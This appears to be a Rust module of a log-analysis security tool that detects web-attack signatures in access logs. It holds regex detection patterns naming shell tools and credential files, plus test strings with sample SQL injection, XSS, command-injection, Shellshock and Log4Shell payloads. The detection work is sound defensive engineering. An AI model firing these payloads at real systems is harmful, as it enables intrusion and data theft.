//! Attack signatures in the request target, the referer and the user agent.
//!
//! **What it detects:** path traversal, probes for secrets and internals (`/.env`,
//! `/.git/`, `wp-config`, backups, admin consoles), SQL injection, cross-site scripting,
//! command injection (and Shellshock), Log4Shell `${jndi:` lookups, and the user agents of
//! known scanners and attack tools.
//!
//! **Why it matters:** these are the first moves of most web attacks, and they are
//! written plainly in the access log. Matching happens after
//! [`normalize_request_text`](super::normalize_request_text), so double encoding, overlong
//! UTF-8 or backslashes do not hide them.
//!
//! **Example lines:**
//! ```text
//! 192.0.2.150 - - [12/Mar/2024:10:03:07 +0100] "GET /products?id=1%20UNION%20ALL%20SELECT%20NULL--%20- HTTP/1.1" 500 734 "-" "sqlmap/1.7.2#stable"
//! 198.51.100.9 - - [11/Mar/2024:21:04:00 +0100] "GET / HTTP/1.1" 200 5321 "-" "${jndi:ldap://198.51.100.9:1389/Exploit}"
//! ```
//!
//! Lines from one client with the same kind of signature make one finding: one incident,
//! however many requests it took.

use super::client_map::{ClientKey, ClientMap};
use super::normalize::normalize_request_text;
use super::{Detector, Evidence, score_with_repetition};
use crate::display_text::for_display;
use crate::event::Event;
use crate::finding::{Finding, FindingKind};
use crate::memo::Memo;
use crate::parse::combined::split_request;
use regex::RegexSet;
use std::collections::BTreeSet;
use std::sync::LazyLock;

/// Tuning for [`SignatureDetector`].
#[derive(Debug, Clone, PartialEq, serde::Serialize, serde::Deserialize)]
#[serde(default)]
pub struct SignatureOptions {
    /// Look for signatures in the user agent and referer too, not only the target.
    pub check_headers: bool,
}

impl Default for SignatureOptions {
    fn default() -> Self {
        Self {
            check_headers: true,
        }
    }
}

/// Where a rule looks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Place {
    /// The request target (path and query), or the raw request line.
    Target,
    /// The user agent and referer headers.
    Headers,
    /// Both.
    Anywhere,
}

/// One signature: a name for people, a pattern over normalised (lower-case) text.
struct Rule {
    kind: FindingKind,
    name: &'static str,
    place: Place,
    pattern: &'static str,
}

const RULES: &[Rule] = &[
    // Path traversal: climbing out of the web root, or naming the files it is for.
    Rule {
        kind: FindingKind::PathTraversal,
        name: "../",
        place: Place::Target,
        pattern: r"\.\./|/\.\.$",
    },
    Rule {
        kind: FindingKind::PathTraversal,
        name: "system file",
        place: Place::Target,
        pattern: r"/etc/(passwd|shadow|group|hosts)\b|win\.ini|boot\.ini|/proc/self/",
    },
    // Secrets and internals nobody but an attacker asks a public site for.
    Rule {
        kind: FindingKind::SensitiveFileProbe,
        name: "dotfile",
        place: Place::Target,
        pattern: r"/\.(env|git|svn|hg|htpasswd|htaccess|aws|ssh|ds_store|docker|npmrc|bash_history)(/|$|\?|\.)",
    },
    Rule {
        kind: FindingKind::SensitiveFileProbe,
        name: "config or backup",
        place: Place::Target,
        pattern: r"wp-config|/config\.php|\.(bak|old|orig|swp|save|sql|sqlite|db)($|\?)|/(backup|backups|dump|database|db|site|www)\.(zip|tar|tgz|tar\.gz|rar|7z|sql)",
    },
    Rule {
        kind: FindingKind::SensitiveFileProbe,
        name: "admin console",
        place: Place::Target,
        pattern: r"/(phpmyadmin|pma|adminer|myadmin)(/|\.php|$)|/server-status|/phpinfo\.php|/actuator/(env|heapdump)|/web\.config|/console($|/)",
    },
    // SQL injection: SQL structure, not just a quote (people search for o'reilly).
    Rule {
        kind: FindingKind::SqlInjection,
        name: "union select",
        place: Place::Anywhere,
        // SQL after the select (`null,`, `1,2`, `@@version`, `a,b from`), not a search phrase.
        pattern: r"union(\s|/\*.*?\*/)+(all\s+|distinct\s+)?select(\s|/\*.*?\*/)*(null|\d|@|\*|\(|[a-z_.]+\s*(,|\sfrom\b))",
    },
    Rule {
        kind: FindingKind::SqlInjection,
        name: "boolean test",
        place: Place::Anywhere,
        pattern: r"=-?\d+'+($|&|\s|\))|'\s*(or|and)\s+('[^']*'|\d+)\s*(=|like)|\b(or|and)\s+(\d+)\s*=\s*(\d+)\b|'\s*(or|and)\s*'\w*'\s*=\s*'",
    },
    Rule {
        kind: FindingKind::SqlInjection,
        name: "time delay",
        place: Place::Anywhere,
        pattern: r"\bsleep\s*\(\s*\d|benchmark\s*\(|pg_sleep|waitfor\s+delay",
    },
    Rule {
        kind: FindingKind::SqlInjection,
        name: "stacked or catalog query",
        place: Place::Anywhere,
        pattern: r";\s*(drop|insert|update|delete|select|shutdown|exec)\s|information_schema|xp_cmdshell|load_file\s*\(|into\s+(out|dump)file|extractvalue\s*\(|updatexml\s*\(|'\s*(--|#)",
    },
    // Cross-site scripting, also in headers a log viewer might render.
    Rule {
        kind: FindingKind::Xss,
        name: "script markup",
        place: Place::Anywhere,
        pattern: r"<\s*/?\s*script|<[^>]*[\s/]on[a-z]+\s*=|javascript\s*:|<\s*(svg|iframe|object|embed)\b",
    },
    Rule {
        kind: FindingKind::Xss,
        name: "script call",
        place: Place::Anywhere,
        pattern: r"alert\s*\(|document\.(cookie|domain)|string\.fromcharcode|eval\s*\(",
    },
    // Command injection, and Shellshock in headers.
    // A command after a shell separator, ending as shell syntax would (not `;id=5`).
    Rule {
        kind: FindingKind::CommandInjection,
        name: "shell command",
        place: Place::Target,
        pattern: r"(;|\||&&|\$\(|`)\s*(cat|ls|id|whoami|uname|wget|curl|nc|ncat|bash|sh|python|perl|ping|nslookup|rm|chmod)(\s|$|;|\||&|`|\))|/bin/(ba)?sh\b|cmd(\.exe)?\s*/c\b|powershell",
    },
    // In headers only the unmistakable forms: user agents are full of `; id)` and the like.
    Rule {
        kind: FindingKind::CommandInjection,
        name: "shell in header",
        place: Place::Headers,
        pattern: r"\$\([a-z]+[^)]*\)|`[a-z]+[^`]*`|/bin/(ba)?sh\b|(wget|curl)\s+(-\S+\s+)*https?://|\|\s*(ba)?sh\b",
    },
    Rule {
        kind: FindingKind::CommandInjection,
        name: "shellshock",
        place: Place::Anywhere,
        pattern: r"\(\)\s*\{\s*:?\s*;?\s*\}\s*;",
    },
    // Log4Shell, plain or with nested lookups hiding the word jndi.
    Rule {
        kind: FindingKind::Log4Shell,
        name: "jndi lookup",
        place: Place::Anywhere,
        pattern: r"\$\{\s*jndi\s*:|\$\{[^}]{0,40}\$\{|\$\{::-",
    },
    // Tools that announce themselves.
    Rule {
        kind: FindingKind::ScannerUserAgent,
        name: "attack tool",
        place: Place::Headers,
        pattern: r"nikto|sqlmap|nmap|nuclei|gobuster|dirbuster|\bdirb\b|wpscan|acunetix|nessus|openvas|w3af|hydra|zmeu|morfeus|fimap|havij|jorgee|netsparker|wfuzz|ffuf|feroxbuster|whatweb|arachni|skipfish|commix|xsstrike",
    },
    // Internet background noise: what every public address receives, aimed at no site in
    // particular. Reported apart, at a low score, so it neither floods nor hides.
    Rule {
        kind: FindingKind::BackgroundNoise,
        name: "handshake on the wrong port",
        place: Place::Target,
        // TLS and RDP handshakes (as the server escapes their bytes), SSH banners.
        pattern: r"^/x(16/x03|03/x00/x00)|^ssh-\d|mstshash=",
    },
    Rule {
        kind: FindingKind::BackgroundNoise,
        name: "proxy check",
        place: Place::Target,
        // An absolute URI or a CONNECT's host:port: asking this server to be a proxy.
        pattern: r"^https?://|^[a-z0-9.\-]+:\d{1,5}$",
    },
    Rule {
        kind: FindingKind::BackgroundNoise,
        name: "mass or research scanner",
        place: Place::Headers,
        pattern: r"zgrab|masscan|\bzmap|censys|expanse|leakix|l9explore|l9tcpid|internet-?measurement|modatscanner|netcraft|shodan|onyphe|binaryedge|criminalip|stretchoid|paloaltonetworks|researchscan|netsystemsresearch|odin\.io|scaninfo@|^hello,? ?world",
    },
    Rule {
        kind: FindingKind::BackgroundNoise,
        name: "exploit probe",
        place: Place::Target,
        // Botnets spray these at every address, whatever runs there (CrowdSec's http-cve
        // scenarios): routers, PHPUnit, ThinkPHP, pearcmd, Laravel, Exchange, F5, Fortinet.
        pattern: r"/boaform/|/hnap1|eval-stdin\.php|invokefunction|think/app|/pearcmd|/gponform/|/setup\.cgi\?next_file=|/cgi-bin/(popen|mainfunction|luci)|/shell\?cd |/_ignition/execute-solution|autodiscover\.json\?@|/owa/auth/x\.js|/actuator/gateway/routes|/mgmt/tm/util/bash|/tmui/login\.jsp|/remote/fgt_lang|/.cscoe./|/api/jsonws/invoke|/ws/v1/cluster/apps/new-application|/nice ports,/tri|/currentsetting\.htm|/vendor/phpunit/|/wp-file-manager/lib/php/connector|/solr/admin/info/system|/level/15/exec/",
    },
    Rule {
        kind: FindingKind::BackgroundNoise,
        name: "worm (Code Red, Nimda)",
        place: Place::Target,
        pattern: r"/default\.ida\?|/(scripts|msadc|_vti_bin|_mem_bin|iisadmpwd|c|d)/.*(root|cmd)\.exe|/scripts/\.\.|/msadc/\.\.",
    },
];

/// The rules of background noise: a line that matches one is noise, and its probing
/// (a worm's traversal, a bot's `.env`) is the noise's; a payload that would run code
/// (a command, SQL, script, a JNDI lookup) is still reported as what it is.
static NOISE_MASK: LazyLock<RuleMask> =
    LazyLock::new(|| mask_of(|kind| kind == FindingKind::BackgroundNoise));

/// What noise leaves standing of a line's other matches.
static KEPT_BESIDE_NOISE: LazyLock<RuleMask> = LazyLock::new(|| {
    mask_of(|kind| {
        matches!(
            kind,
            FindingKind::BackgroundNoise
                | FindingKind::Log4Shell
                | FindingKind::CommandInjection
                | FindingKind::SqlInjection
                | FindingKind::Xss
        )
    })
});

fn mask_of(kinds: impl Fn(FindingKind) -> bool) -> RuleMask {
    RULES
        .iter()
        .enumerate()
        .filter(|(_, rule)| kinds(rule.kind))
        .fold(0, |mask, (i, _)| mask | 1 << i)
}

/// How bad each kind is to begin with, and how sure a match makes us.
fn base_score_and_confidence(kind: FindingKind) -> (u8, f64) {
    match kind {
        FindingKind::Log4Shell => (92, 0.95),
        FindingKind::CommandInjection => (85, 0.85),
        FindingKind::SqlInjection => (78, 0.85),
        FindingKind::PathTraversal => (72, 0.85),
        FindingKind::Xss => (66, 0.8),
        FindingKind::SensitiveFileProbe => (50, 0.75),
        FindingKind::ScannerUserAgent => (45, 0.9),
        FindingKind::BackgroundNoise => (20, 0.9),
        // Kinds other detectors report; no signature produces them.
        _ => (50, 0.5),
    }
}

/// What one client did of one kind.
#[derive(Debug, Clone)]
struct Hits {
    evidence: Evidence,
    rules: BTreeSet<&'static str>,
    answered_2xx: u64,
    answered_5xx: u64,
    first_target: String,
}

impl Hits {
    fn count_answer(&mut self, status: Option<u16>) {
        match status {
            Some(200..=299) => self.answered_2xx += 1,
            Some(500..=599) => self.answered_5xx += 1,
            _ => {}
        }
    }
}

/// Finds the signatures listed above; see the module docs.
#[derive(Debug, Clone)]
pub struct SignatureDetector {
    options: SignatureOptions,
    max_evidence_lines: usize,
    /// Per client, its hits per kind (a client rarely has more than two kinds).
    hits: ClientMap<Vec<(FindingKind, Hits)>>,
    /// The rules recent targets matched, and recent headers: most repeat.
    target_memo: Memo<String, RuleMask>,
    header_memo: Memo<String, RuleMask>,
    /// The last user agent and referer, with the rules they matched: more than half of
    /// all lines repeat the line before's, and comparing costs less than looking up.
    last_headers: [(String, RuleMask); 2],
}

/// A set of rules, one bit per index in `RULES`.
type RuleMask = u64;
const _: () = assert!(RULES.len() <= RuleMask::BITS as usize);

/// Slots in each memo, as a power of two.
const MEMO_BITS: u32 = 12;

impl SignatureDetector {
    /// A detector listing at most `max_evidence_lines` lines per finding.
    pub fn new(options: SignatureOptions, max_evidence_lines: usize) -> Self {
        Self {
            options,
            max_evidence_lines,
            hits: ClientMap::default(),
            target_memo: Memo::new(MEMO_BITS),
            header_memo: Memo::new(MEMO_BITS),
            last_headers: Default::default(),
        }
    }

    /// The rules header `which` (0 the user agent, 1 the referer) matches.
    fn header_rules(&mut self, which: usize, header: &str) -> RuleMask {
        let (last, last_rules) = &mut self.last_headers[which];
        if last == header {
            return *last_rules;
        }
        let rules = remembered_rules(&mut self.header_memo, &HEADER_RULES, header);
        last.clear();
        last.push_str(header);
        *last_rules = rules;
        rules
    }
}

/// The rules for the target and for headers, each compiled once into one set (with each
/// set index's rule), shared by every analysis.
static TARGET_RULES: LazyLock<(RegexSet, Vec<usize>)> =
    LazyLock::new(|| rule_set(|place| place != Place::Headers));
static HEADER_RULES: LazyLock<(RegexSet, Vec<usize>)> =
    LazyLock::new(|| rule_set(|place| place != Place::Target));

fn rule_set(applies: impl Fn(Place) -> bool) -> (RegexSet, Vec<usize>) {
    let index: Vec<usize> = (0..RULES.len())
        .filter(|&i| applies(RULES[i].place))
        .collect();
    let set = RegexSet::new(index.iter().map(|&i| RULES[i].pattern))
        .unwrap_or_else(|e| panic!("a signature pattern does not compile: {e}"));
    (set, index)
}

/// The rules of `rules` that `text` matches once normalised.
fn matched_rules((set, index): &(RegexSet, Vec<usize>), text: &str) -> RuleMask {
    set.matches(&normalize_request_text(text))
        .iter()
        .fold(0, |mask, i| mask | 1 << index[i])
}

/// [`matched_rules`], remembered in `memo` for texts short enough to keep.
fn remembered_rules(
    memo: &mut Memo<String, RuleMask>,
    rules: &(RegexSet, Vec<usize>),
    text: &str,
) -> RuleMask {
    memo.text_answer(text, |text| matched_rules(rules, text))
}

impl Detector for SignatureDetector {
    fn relative_cost(&self) -> u32 {
        17
    }

    fn untracked(&self) -> Option<crate::limits::LeftOut> {
        Some(crate::limits::LeftOut::clients(
            "attack signatures",
            self.hits.untracked_lines(),
        ))
    }

    fn observe(&mut self, line_no: u64, event: &Event<'_>, client: &ClientKey<'_>) {
        // An error log's request (nginx's `request: "GET /x HTTP/1.1"`) is checked like an
        // access log's, without an answer or headers.
        let (time, raw_target, status, headers) = match event {
            Event::Access(record) => (
                record.time,
                record.target.unwrap_or(record.request),
                Some(record.status),
                [record.user_agent, record.referer],
            ),
            Event::Syslog(record) => match record.request {
                Some(request) => (
                    record.time,
                    split_request(request).1.unwrap_or(request),
                    None,
                    [None, None],
                ),
                None => return,
            },
            Event::Flow(_) => return,
        };
        let mut mask = remembered_rules(&mut self.target_memo, &TARGET_RULES, raw_target);
        if self.options.check_headers {
            for (which, header) in headers.into_iter().enumerate() {
                if let Some(header) = header {
                    mask |= self.header_rules(which, header);
                }
            }
        }
        if mask == 0 {
            return;
        }
        if mask & *NOISE_MASK != 0 {
            mask &= *KEPT_BESIDE_NOISE;
        }
        // In the order of `RULES`, each once.
        let matched = (0..RULES.len()).filter(|&i| mask & 1 << i != 0);
        let cap = self.max_evidence_lines;
        let Some(kinds) = self.hits.get_or_insert_with(client, Vec::new) else {
            return;
        };
        // A line counts once per kind, however many of that kind's rules it matches.
        let mut kinds_counted: Vec<FindingKind> = Vec::new();
        for rule in matched.map(|i| &RULES[i]) {
            let first_of_kind = !kinds_counted.contains(&rule.kind);
            kinds_counted.push(rule.kind);
            match kinds.iter_mut().find(|(kind, _)| *kind == rule.kind) {
                None => {
                    let mut hits = Hits {
                        evidence: Evidence::new(line_no, time, cap),
                        rules: BTreeSet::from([rule.name]),
                        answered_2xx: 0,
                        answered_5xx: 0,
                        first_target: for_display(raw_target, 120),
                    };
                    hits.count_answer(status);
                    kinds.push((rule.kind, hits));
                }
                Some((_, hits)) => {
                    hits.rules.insert(rule.name);
                    if first_of_kind {
                        hits.evidence.add(line_no, time);
                        hits.count_answer(status);
                    }
                }
            }
        }
    }

    fn finish(self: Box<Self>) -> Vec<Finding> {
        self.hits
            .into_iter()
            .flat_map(|(client, kinds)| {
                kinds
                    .into_iter()
                    .map(move |(kind, hits)| ((client.clone(), kind), hits))
            })
            .map(|((client, kind), hits)| {
                let (base, confidence) = base_score_and_confidence(kind);
                // A 2xx to a traversal or a probe may mean the file was served.
                let served = matches!(
                    kind,
                    FindingKind::PathTraversal
                        | FindingKind::SensitiveFileProbe
                        | FindingKind::BackgroundNoise
                ) && hits.answered_2xx > 0;
                let score = score_with_repetition(base, hits.evidence.count(), 8)
                    .saturating_add(if served { 10 } else { 0 });
                let confidence = if hits.evidence.count() >= 3 {
                    confidence + 0.05
                } else {
                    confidence
                };
                let description = describe(kind, &client, &hits);
                hits.evidence.into_finding(
                    kind,
                    &client,
                    score.min(100),
                    confidence,
                    description,
                    Vec::new(),
                )
            })
            .collect()
    }
}

fn describe(kind: FindingKind, client: &str, hits: &Hits) -> String {
    let count = hits.evidence.count();
    let requests = if count == 1 {
        "1 request".to_owned()
    } else {
        format!("{count} requests")
    };
    let rules: Vec<&str> = hits.rules.iter().copied().collect();
    let mut answered = Vec::new();
    if hits.answered_2xx > 0 {
        answered.push(format!("{} answered 2xx", hits.answered_2xx));
    }
    if hits.answered_5xx > 0 {
        answered.push(format!("{} answered 5xx", hits.answered_5xx));
    }
    let answered = if answered.is_empty() {
        String::new()
    } else {
        format!("; {}", answered.join(", "))
    };
    format!(
        "{requests} from {} with {} signatures ({}){answered}; first: {}",
        for_display(client, 64),
        kind.label().to_lowercase(),
        rules.join(", "),
        hits.first_target
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::record::AccessRecord;
    use crate::time::LogTime;

    /// The kinds the detector reports for one request.
    fn kinds_for(
        target: &str,
        user_agent: Option<&str>,
        referer: Option<&str>,
    ) -> Vec<FindingKind> {
        kinds_with(SignatureOptions::default(), target, user_agent, referer)
    }

    /// A GET of `target` from 192.0.2.1, `secs` after the epoch, with these headers.
    fn get<'a>(
        secs: i64,
        target: &'a str,
        user_agent: Option<&'a str>,
        referer: Option<&'a str>,
    ) -> AccessRecord<'a> {
        AccessRecord {
            vhost: None,
            duration_secs: None,
            client: "192.0.2.1",
            identity: None,
            user: None,
            time: LogTime {
                epoch_secs: secs,
                offset_secs: 0,
            },
            request: "GET",
            method: Some("GET"),
            target: Some(target),
            protocol: Some("HTTP/1.1"),
            status: 200,
            bytes_sent: Some(1),
            referer,
            user_agent,
        }
    }

    fn kinds_with(
        options: SignatureOptions,
        target: &str,
        user_agent: Option<&str>,
        referer: Option<&str>,
    ) -> Vec<FindingKind> {
        let record = get(0, target, user_agent, referer);
        let mut detector = Box::new(SignatureDetector::new(options, 10));
        let client = ClientKey::new(record.client);
        detector.observe(1, &Event::Access(record), &client);
        let mut kinds: Vec<FindingKind> = detector.finish().into_iter().map(|f| f.kind).collect();
        kinds.sort();
        kinds
    }

    #[test]
    fn a_header_repeated_from_the_line_before_matches_as_it_did() {
        // A scanner's agent, the same agent again, then an ordinary one in the same slot,
        // and the scanner's as a referer: each line is judged by its own headers.
        let scanner = "sqlmap/1.7.2#stable (https://sqlmap.org)";
        let browser = "Mozilla/5.0 (X11; Linux x86_64)";
        let lines = [
            (Some(scanner), None),
            (Some(scanner), None),
            (Some(browser), Some(scanner)),
            (Some(browser), Some(browser)),
            (None, Some(browser)),
        ];
        let mut detector = Box::new(SignatureDetector::new(SignatureOptions::default(), 10));
        for (number, (user_agent, referer)) in lines.into_iter().enumerate() {
            let record = get(number as i64, "/", user_agent, referer);
            let client = ClientKey::new(record.client);
            detector.observe(number as u64 + 1, &Event::Access(record), &client);
        }
        let found = detector.finish();
        assert_eq!(found.len(), 1, "{found:#?}");
        assert_eq!(found[0].lines, vec![1, 2, 3]);
    }

    macro_rules! target_cases {
        ($($name:ident: $target:expr => [$($kind:ident),*];)*) => {$(
            #[test]
            fn $name() {
                assert_eq!(kinds_for($target, None, None), vec![$(FindingKind::$kind),*], "{}", $target);
            }
        )*};
    }

    target_cases! {
        traversal_plain: "/download?file=../../../../etc/passwd" => [PathTraversal];
        traversal_double_encoded: "/static/..%252f..%252f..%252fetc%252fhosts" => [PathTraversal];
        traversal_overlong: "/%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini" => [PathTraversal];
        traversal_tomcat: "/app/..;/manager/html" => [PathTraversal];
        traversal_backslash: "/download?file=..%5c..%5cwindows%5cwin.ini" => [PathTraversal];
        probe_env: "/.env" => [SensitiveFileProbe];
        probe_git: "/.git/config" => [SensitiveFileProbe];
        probe_wp_config: "/wp-config.php.bak" => [SensitiveFileProbe];
        probe_sql_dump: "/backup.sql" => [SensitiveFileProbe];
        probe_phpmyadmin: "/phpMyAdmin/index.php" => [SensitiveFileProbe];
        probe_phpinfo: "/phpinfo.php" => [SensitiveFileProbe];
        sqli_union: "/item?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL--" => [SqlInjection];
        sqli_boolean: "/item?id=1'%20OR%20'1'%3D'1" => [SqlInjection];
        sqli_number_equals: "/item?id=1+and+1%3D1" => [SqlInjection];
        sqli_sleep: "/search?q=1'%20AND%20SLEEP(5)%23" => [SqlInjection];
        sqli_quote_after_number: "/products?id=7'" => [SqlInjection];
        sqli_comment_obfuscated: "/item?id=1/**/UnIoN/**/SeLeCt/**/1,2" => [SqlInjection];
        xss_script: "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E" => [Xss];
        xss_event_handler: "/search?q=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E" => [Xss];
        xss_javascript_url: "/go?to=JaVaScRiPt:alert(document.cookie)" => [Xss];
        command_semicolon: "/ping?host=127.0.0.1;cat%20/etc/passwd" => [PathTraversal, CommandInjection];
        command_subshell: "/ping?host=$(whoami)" => [CommandInjection];
        command_pipe_end: "/lookup?name=x|id" => [CommandInjection];
        log4shell_in_path: "/$%7Bjndi:ldap://x/a%7D" => [Log4Shell];
        log4shell_nested: "/?x=${${lower:j}ndi:rmi://x/a}" => [Log4Shell];
        legit_home: "/" => [];
        legit_search_with_quotes: "/search?q=o'reilly+%22learning+rust%22" => [];
        legit_search_union: "/search?q=union+select+committee" => [];
        legit_session_param: "/cart;jsessionid=ABC123?item=5" => [];
        legit_matrix_id: "/items;id=5/edit" => [];
        legit_login_page: "/blog/login-tips-for-beginners" => [];
        legit_backup_article: "/docs/backup-guide.pdf" => [];
        legit_archive_download: "/downloads/release-2.3.tar.gz" => [];
        legit_env_word: "/environment/settings" => [];
        legit_or_in_text: "/search?q=black+or+white" => [];
        legit_version_query: "/static/app.js?v=1.2.3" => [];
    }

    #[test]
    fn scanner_and_attacks_in_headers() {
        assert_eq!(
            kinds_for("/", Some("sqlmap/1.7.2#stable (https://sqlmap.org)"), None),
            [FindingKind::ScannerUserAgent]
        );
        assert_eq!(
            kinds_for(
                "/",
                Some("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"),
                None
            ),
            [FindingKind::ScannerUserAgent]
        );
        assert_eq!(
            kinds_for("/", Some("${jndi:ldap://x:1389/a}"), None),
            [FindingKind::Log4Shell]
        );
        assert_eq!(
            kinds_for("/", Some("() { :; }; /bin/bash -c 'id'"), None),
            [FindingKind::CommandInjection]
        );
        assert_eq!(
            kinds_for("/", None, Some("https://x/<script>alert(1)</script>")),
            [FindingKind::Xss]
        );
    }

    #[test]
    fn ordinary_headers_are_quiet() {
        for agent in [
            "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "curl/8.5.0",
            "python-requests/2.31.0",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36",
        ] {
            assert_eq!(
                kinds_for(
                    "/",
                    Some(agent),
                    Some("https://www.google.com/search?q=a+or+b")
                ),
                [],
                "{agent}"
            );
        }
    }

    #[test]
    fn switching_headers_off_ignores_them() {
        let options = SignatureOptions {
            check_headers: false,
        };
        assert_eq!(kinds_with(options, "/", Some("sqlmap/1.7"), None), []);
    }
}
